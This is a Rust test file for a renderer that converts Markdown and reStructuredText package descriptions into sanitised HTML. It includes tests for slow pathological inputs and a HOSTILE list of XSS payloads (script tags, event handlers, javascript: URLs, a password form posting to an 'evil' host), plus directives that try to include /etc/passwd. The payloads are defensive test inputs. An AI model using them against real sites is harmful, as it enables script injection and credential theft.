//! What descriptions become: what people write, and what somebody may write to harm them.

use std::time::{Duration, Instant};

use super::*;

fn rest(text: &str) -> String {
    render(text, Notation::Rest).html
}

fn markdown(text: &str) -> String {
    render(text, Notation::Markdown).html
}

#[track_caller]
fn has(html: &str, parts: &[&str]) {
    for part in parts {
        assert!(html.contains(part), "no {part} in {html}");
    }
}

#[test]
fn the_notation_is_what_the_content_type_says() {
    assert_eq!(Notation::of("text/markdown; charset=UTF-8; variant=GFM"), Notation::Markdown);
    assert_eq!(Notation::of("Text/Plain"), Notation::Plain);
    assert_eq!(Notation::of(""), Notation::Rest);
    assert_eq!(Notation::of("UNKNOWN"), Notation::Rest);
}

#[test]
fn markdown_as_on_public_indexes() {
    let html = markdown(
        "# Title\n\nSee https://example.com/a_b. ~~old~~ **new** `code`\n\n| a | b |\n|--|:-:|\n| 1 | 2 |\n\n\
         - [x] done\n- [ ] open\n\n```python\nprint('<x>')\n```\n\n[in](#title) [out](https://h/p \"t\")\n",
    );
    has(
        &html,
        &[
            "<h3 id=\"user-content-title\">Title</h3>",
            "href=\"https://example.com/a_b\"",
            ">https://example.com/a_b</a>.",
            "<del>old</del> <strong>new</strong> <code>code</code>",
            "<table>",
            "<td>1</td>",
            "\u{2611}",
            "\u{2610}",
            "print('&lt;x&gt;')",
            "href=\"#user-content-title\"",
            "rel=\"nofollow noopener noreferrer\"",
        ],
    );
    assert!(!html.contains("<input") && !html.contains("style="), "{html}");
}

#[test]
fn html_within_markdown_stays_as_far_as_it_is_harmless() {
    let html = markdown(
        "<p align=\"center\"><img src=\"https://h/logo.png\" alt=\"Logo\" onerror=\"x()\"></p>\n\n\
         [![build](https://h/badge.svg)](https://h/ci)\n\n<details><summary>More</summary>\n\ntext\n\n</details>\n\n\
         <h1 id=\"top\" style=\"color:red\">T</h1>\n",
    );
    has(
        &html,
        &[
            "<p align=\"center\"><a class=\"image\" href=\"https://h/logo.png\"",
            ">Logo</a>",
            "<a href=\"https://h/ci\"",
            "<span class=\"image\">build</span></a>",
            "<summary>More</summary>",
            "<h3 id=\"user-content-top\">T</h3>",
        ],
    );
    assert!(!html.contains("onerror") && !html.contains("<img") && !html.contains("style"));
}

#[test]
fn rest_as_descriptions_use_it() {
    let html = rest(
        "=====\nTitle\n=====\n\n|build| Some *emphasis*, **strong** and ``lit \\eral``, `a link <https://h/x>`_, \
         a name_, `two words`_ and `one more`__.\n\n.. |build| image:: https://h/b.svg\n   :target: https://h/ci\n\
         \n.. _name: https://h/name\n.. _two words: name_\n__ https://h/more\n\nSection\n-------\n\n- one\n- two\n\n\
         \x20 + nested\n\n1. first\n2. second\n\nterm\n    What it is.\n\n:field: value\n\nCode::\n\n    x = '<y>'\n\n\
         .. code-block:: python\n\n    import z\n\n.. note:: Take care.\n\nSee [1]_ and Section_.\n\n.. [1] A note.\n",
    );
    has(
        &html,
        &[
            "<h3 id=\"user-content-title\">Title</h3>",
            "<a href=\"https://h/ci\"",
            "<span class=\"image\">build</span></a>",
            "<em>emphasis</em>, <strong>strong</strong> and <code>lit \\eral</code>",
            "href=\"https://h/x\"",
            "href=\"https://h/name\" rel=\"nofollow noopener noreferrer\">name</a>",
            "href=\"https://h/name\" rel=\"nofollow noopener noreferrer\">two words</a>",
            "href=\"https://h/more\"",
            "<h4 id=\"user-content-section\">Section</h4>",
            "<li>one</li>",
            "<li>nested</li>",
            "<ol start=\"1\" type=\"1\"><li>first</li>",
            "<dt>term</dt><dd>What it is.</dd>",
            "<dt>field</dt><dd>value</dd>",
            "<p>Code:</p>",
            "<pre>x = '&lt;y&gt;'</pre>",
            "<pre>import z</pre>",
            "<div class=\"admonition note\"><p class=\"admonition-title\">Note</p><p>Take care.</p>",
            "<a href=\"#user-content-footnote-1\"",
            "id=\"user-content-footnote-1\"",
            "href=\"#user-content-section\"",
        ],
    );
}

#[test]
fn tables_of_rest() {
    let html = rest(
        "+-----+-------+\n| a   | b     |\n+=====+=======+\n| wide        |\n+-----+-------+\n| tall| 1     |\n\
         |     +-------+\n|     | 2     |\n+-----+-------+\n\n=====  =====\nx      y\n=====  =====\n1      two\n       words\n\
         3      four\n=====  =====\n\n.. list-table::\n   :header-rows: 1\n\n   * - h\n     - i\n   * - j\n     - k\n\n\
         .. csv-table:: Cap\n   :header: \"p\", \"q\"\n\n   r, \"s, t\"\n",
    );
    has(
        &html,
        &[
            "<th colspan=\"1\" rowspan=\"1\">a</th>",
            "<td colspan=\"2\" rowspan=\"1\">wide</td>",
            "<td colspan=\"1\" rowspan=\"2\">tall</td>",
            "two\nwords",
            ">four</td>",
            ">h</th>",
            ">k</td>",
            "<caption>Cap</caption>",
            ">s, t</td>",
        ],
    );
}

#[test]
fn contents_are_those_of_the_text() {
    let html = rest("All\n===\n\n.. contents:: Inside\n\nOne\n---\n\nTwo\n~~~\n\nThree\n-----\n");
    let link = |id: &str, text: &str| {
        format!(
            "<li><a href=\"#user-content-{id}\" rel=\"nofollow noopener noreferrer\">{text}</a>"
        )
    };
    let (one, two, three) = (link("one", "One"), link("two", "Two"), link("three", "Three"));
    let nested = format!("<ul>{one}<ul>{two}</li></ul></li>{three}</li></ul>");
    has(&html, &["<div class=\"contents\"><p>Inside</p>", &nested]);
}

#[test]
fn rest_brings_in_nothing_from_elsewhere() {
    let html = rest(
        "Text\n\n.. raw:: html\n\n   <script>alert(1)</script>\n\n.. include:: /etc/passwd\n\n\
         .. literalinclude:: /etc/passwd\n\n.. csv-table::\n   :file: /etc/passwd\n\n.. image:: javascript:x()\n\n\
         .. unknown:: thing\n\n   <b onclick=x>text</b>\n",
    );
    assert!(
        !html.contains("<script") && !html.contains("root:") && !html.contains("href"),
        "{html}"
    );
    has(&html, &["unknown:: thing", "&lt;b onclick=x&gt;text&lt;/b&gt;"]);
}

#[test]
fn what_is_too_long_or_too_deep_is_plain() {
    let long = "<b>\u{e9}".repeat(RENDERED_BYTES_MAX / 4);
    let rendered = render(&long, Notation::Markdown);
    assert!(rendered.note.is_some() && rendered.html.starts_with("<pre class=\"plain\">&lt;b&gt;"));
    let deep = render(&format!("{}x", "> ".repeat(200)), Notation::Markdown);
    assert!(deep.note.is_some() && deep.html.contains("&gt; &gt;"));
    assert_eq!(render("a <b>", Notation::Plain).html, "<pre class=\"plain\">a &lt;b&gt;</pre>");
}

#[test]
fn an_indent_by_old_tools_is_taken_away() {
    assert_eq!(rest("A\n        =\n\n        text"), rest("A\n=\n\ntext"));
}

#[test]
fn the_same_is_rendered_once() {
    let kept = Descriptions::default();
    let first = kept.get("# a", "text/markdown");
    assert!(Arc::ptr_eq(&first, &kept.get("# a", "text/markdown; charset=UTF-8")));
    assert_ne!(first.html, kept.get("# a", "text/plain").html);
}

/// Texts that make readers of such notations slow, each of them as often as fits.
const SLOW: &[&str] = &[
    "[",
    "![",
    "*",
    "**a ",
    "*a **a ",
    "_",
    "`",
    "``a ",
    "<",
    "<a ",
    "[a](",
    "[a](<",
    "<!--",
    "> ",
    ">",
    "- ",
    "- a\n",
    "|a|",
    "1. ",
    "a_ ",
    "|a|_ ",
    "[1]_ ",
    ":a:`",
    "http://a ",
    "<http://a",
    "http://",
    "a\n====\n",
    "= =\n",
    "+--+\n",
    "+--+\n|  |\n",
    ".. |a| replace:: b\n",
    ".. [1] a\n",
    ".. _a: b_\n",
    "a::\n\n  b\n\n",
    ":a: b\n",
    "-a  b\n",
    "\\*",
    "<b>",
    "<b><p>",
    "<div>",
    "<table><b>x",
    "<table><tr><td>",
    "<svg>",
    "<ul><li>",
    "&",
    "&#",
    "[^1]: a\n",
    "[a]: b '",
    "<![CDATA[",
    "a\n b\n",
    "* * * a\n",
    "~~~\n",
    "- [ ] a\n",
    "[a][",
    "a : b\n  c\n",
];

#[test]
fn no_text_takes_long() {
    // Each takes some hundredths of a second when nothing is optimised; one that is read in a square of its length takes
    // far longer.
    const SIZE: usize = 16 << 10;
    const TIME_MAX: Duration = Duration::from_secs(3);
    let mut texts: Vec<String> = SLOW.iter().map(|text| text.repeat(SIZE / text.len())).collect();
    let indents = (0..200).map(|depth| format!("{}- a\n", "  ".repeat(depth))).collect::<String>();
    texts.push(indents + &"\n".repeat(SIZE));
    texts.push(
        (0..SIZE / 10).map(|id| format!("<b id={id}>")).collect::<String>() + &"<p>".repeat(SIZE),
    );
    texts.push(format!("|{}\n|{}\n{}", "a|".repeat(500), "-|".repeat(500), "|\n".repeat(SIZE)));
    texts.push(format!("[a]: http://{}\n\n{}", "x".repeat(1900), "[a] ".repeat(SIZE)));
    texts.push(format!(".. |a| replace:: {}\n\n{}", "x".repeat(2000), "|a| ".repeat(SIZE)));
    texts.push(format!("{}\n{}{}", "= ".repeat(150), "a\n".repeat(SIZE), "= ".repeat(150)));
    texts.push((0..40).fold("x".to_owned(), |inside, _| boxed(&inside)));
    for text in texts {
        for notation in [Notation::Markdown, Notation::Rest] {
            let start = Instant::now();
            let rendered = render(&text, notation);
            let sample: String = text.chars().take(30).collect();
            assert!(start.elapsed() < TIME_MAX, "{notation:?} {sample:?}: {:?}", start.elapsed());
            assert!(rendered.html.len() < 2 * HTML_BYTES_MAX, "{notation:?} {sample:?}");
        }
    }
}

/// A text in a table of one cell.
fn boxed(text: &str) -> String {
    let width = text.lines().map(str::len).max().unwrap_or(0);
    let line = format!("+{}+\n", "-".repeat(width));
    let rows = text.lines().map(|row| format!("|{row:width$}|\n")).collect::<String>();
    format!("{line}{rows}{}", line.trim())
}

/// Texts that would do harm if they were shown as they are. Each is tried in every notation.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\" alt=\"a\" onload=x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\" onclick=\"x\" style=\"position:fixed\">x</a>",
    "<a href=\"//evil/\">x</a><a href=\"/+signin\">y</a><a href=\"?x\">z</a>",
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHN2Zz4=) [z](<java\nscript:x>)",
    "![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)> <data:text/html,x>",
    "<svg><script>alert(1)</script></svg><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "<iframe src=\"https://evil/\"></iframe><object data=x></object><embed src=x><base href=//evil/>",
    "<form action=//evil/><input name=password><button>go</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil/x.css><meta http-equiv=refresh content=0>",
    "<div style=\"background:url(//evil/)\" id=\"main\" onmouseover=alert(1)>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=x></template><p><details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<textarea><img title=\"</textarea><img src=x onerror=x>\">",
    "<title><script>x</script></title></main></body></html><script>x</script>",
    "`x <javascript:alert(1)>`_ and y_\n\n.. _y: javascript:alert(1)",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(2)\n   :alt: \"><script>x</script>",
    ".. raw:: html\n\n   <script>alert(1)</script>",
    ".. |s| image:: data:text/html,x\n   :target: data:text/html,x\n\n|s| |s|_",
    ".. _\"onclick=\"x: http://h/\"onclick=\"x\n\n`\"onclick=\"x`_ [\"x]_\n\n\"><script>\n===========\n\n.. contents:: <script>",
    "==  ==\n<script>  x\n==  ==\n\n+----------+\n|<script>  |\n+----------+",
    "```<script>\nx\n```\n\n    <script>x</script>",
    "<x onclick=x>\u{0}<scr\u{0}ipt>\u{202e}txt\u{200b}</x>",
    "<a\u{c}href=\"https://ok/\"\u{c}onclick=x>y</a><a/onclick=x/href=https://ok/>z</a>",
    "<p id=\"header\" class=\"layout hidden\" data-x=1 slot=x is=y tabindex=1 accesskey=x autofocus contenteditable>",
    "<video src=//evil/ autoplay onplay=x></video><audio src=x><source onerror=x></audio><picture><source srcset=x></picture>",
];

/// The tags of HTML, each with its attributes, as a tokenizer of its own reads them.
fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let tokens = html5gum::Tokenizer::new(html).map(|token| token.expect("never fails"));
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let element = |token| match token {
        html5gum::Token::StartTag(tag) => {
            let attributes = tag.attributes.iter().map(|(name, value)| (text(name), text(value)));
            Some((text(&tag.name), attributes.collect()))
        }
        _ => None,
    };
    tokens.filter_map(element).collect()
}

#[test]
fn hostile_descriptions_do_nothing() {
    const TAGS: &[&str] = &["pre", "br", "hr", "wbr"];
    const ATTRIBUTES: &[&str] = &[
        "href", "title", "id", "class", "align", "colspan", "rowspan", "start", "type", "open",
        "rel",
    ];
    for text in HOSTILE {
        for notation in [Notation::Markdown, Notation::Rest, Notation::Plain] {
            let html = render(text, notation).html;
            for (tag, attributes) in elements(&html) {
                assert!(
                    tidy::tags().any(|known| known == tag) || TAGS.contains(&&*tag),
                    "{tag} in {html}"
                );
                for (name, value) in attributes {
                    assert!(ATTRIBUTES.contains(&&*name), "{name} in {html}");
                    assert!(
                        name != "id" || value.starts_with("user-content-"),
                        "{value} in {html}"
                    );
                    let leads_out = ["https://", "http://", "mailto:", "#user-content-"];
                    let is_safe = leads_out.iter().any(|start| value.starts_with(start));
                    assert!(name != "href" || is_safe, "{value} in {html}");
                }
            }
        }
    }
}
